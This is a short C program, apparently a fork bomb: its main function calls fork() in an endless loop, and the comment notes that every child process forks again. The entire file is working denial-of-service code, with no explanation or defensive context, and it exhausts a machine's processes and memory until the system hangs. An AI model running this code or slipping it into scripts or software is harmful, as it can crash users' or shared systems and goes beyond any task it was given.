/* Forks, and so do its children. */
#include <unistd.h>

int main(void) {
  for (;;) fork();
}
